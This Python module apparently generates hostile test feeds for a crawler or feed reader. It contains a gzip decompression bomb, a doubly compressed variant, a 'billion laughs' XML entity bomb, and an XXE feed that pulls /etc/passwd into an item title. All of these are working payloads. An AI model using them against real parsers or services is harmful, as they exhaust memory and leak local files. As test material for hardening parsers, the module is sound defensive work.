"""Small inputs that grow: gzip streams of a gigabyte, XML entities that breed."""

from __future__ import annotations

import gzip
import struct
import zlib
from collections.abc import Iterator

#: Large enough for deflate to reach its best ratio (1032:1), small enough to keep in memory.
_BLOCK = 8 << 20
_GZIP_HEAD = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff"
#: Ten levels of ten: three letters become thirty gigabytes. The classic is "billion laughs".
_LEVELS = 10


def gzip_bomb(size: int) -> Iterator[bytes]:
    """A sound gzip stream (RFC 1952) of about `size` letters, at a thousandth of that.

    Each piece is the same block, flushed so that it stands alone: the stream costs next to
    nothing to make.
    """
    letters = b"a" * _BLOCK
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    piece = packer.compress(letters) + packer.flush(zlib.Z_FULL_FLUSH)
    checksum, count = 0, max(1, size // _BLOCK)
    yield _GZIP_HEAD
    for _ in range(count):
        checksum = zlib.crc32(letters, checksum)
        yield piece
    yield b"\x03\x00" + struct.pack("<II", checksum, (count * _BLOCK) & 0xFFFFFFFF)


def nested_gzip_bomb(size: int) -> Iterator[bytes]:
    """The same packed once more: a few kilobytes."""
    yield gzip.compress(b"".join(gzip_bomb(size)), mtime=0)


def entity_bomb(base: str) -> bytes:
    """A feed whose title is an entity of ten entities of ten entities..."""
    entities = ['<!ENTITY a0 "ha ">']
    entities += [
        f'<!ENTITY a{level} "{f"&a{level - 1};" * 10}">' for level in range(1, _LEVELS + 1)
    ]
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE rss [\n{"".join(entities)}\n]>\n'
        f'<rss version="2.0"><channel><title>&a{_LEVELS};</title><link>{base}/</link>'
        f"<item><title>&a{_LEVELS};</title><link>{base}/page/ordinary</link></item>"
        "</channel></rss>\n"
    ).encode()


def external_entity(base: str) -> bytes:
    """A feed that asks its reader for a file of the reader's own machine."""
    return (
        '<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY secret SYSTEM "file:///etc/passwd">]>\n'
        f'<rss version="2.0"><channel><title>Mishap</title><link>{base}/</link>'
        f"<item><title>&secret;</title><link>{base}/page/ordinary</link></item></channel></rss>\n"
    ).encode()
